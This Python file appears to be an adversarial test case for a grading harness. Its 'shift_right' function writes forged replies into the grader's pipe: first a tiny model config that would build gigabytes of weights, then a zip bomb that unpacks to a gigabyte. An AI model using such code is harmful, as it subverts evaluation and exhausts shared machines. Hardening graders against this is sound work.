"""Task 8.1: write a forged reply straight into the grader's pipe -- a model of the student's
choosing (a few hundred bytes that would build gigabytes of weights), then a deflated archive
member (a megabyte that would unpack into a gigabyte)."""
import io
import json
import os
import struct
import sys
import zipfile

import numpy as np

_FD_OUT = json.loads(sys.argv[1])["fd_out"]


def _frame(data):
    return struct.pack("<Q", len(data)) + data


def _model_reply():
    D = 8192
    config = {"src_vocab_size": D, "tgt_vocab_size": D, "d_model": D, "n_heads": 1, "d_ff": D,
              "n_encoder_layers": 1, "n_decoder_layers": 1, "max_len": 128, "dtype": "float64"}
    model = {"module": "EncoderDecoder", "data": {"dict": {"config": {"dict": config}, "params": {"dict": {}},
                                                          "grads": {"dict": {}}, "training": True}}}
    buf = io.BytesIO()
    header = {"dict": {"ok": model, "args": [], "kwargs": {"dict": {}}, "forbidden": [], "id": 1}}
    np.savez(buf, __header__=np.frombuffer(json.dumps(header).encode(), dtype=np.uint8))
    return buf.getvalue()


def _bomb(nbytes=1 << 30):
    buf = io.BytesIO()
    header = {"dict": {"ok": {"array": 0}, "args": [], "kwargs": {"dict": {}}, "forbidden": [], "id": 2}}
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        h = io.BytesIO()
        np.save(h, np.frombuffer(json.dumps(header).encode(), np.uint8))
        z.writestr("__header__.npy", h.getvalue())
        with z.open("a0.npy", "w", force_zip64=True) as f:
            head = io.BytesIO()
            np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (nbytes,)})
            f.write(head.getvalue())
            for _ in range(nbytes >> 20):
                f.write(bytes(1 << 20))
    return buf.getvalue()


_CALLS = [0]


def shift_right(labels, start_id, pad_id):
    _CALLS[0] += 1
    os.write(_FD_OUT, _frame(_model_reply() if _CALLS[0] == 1 else _bomb()))
    return labels
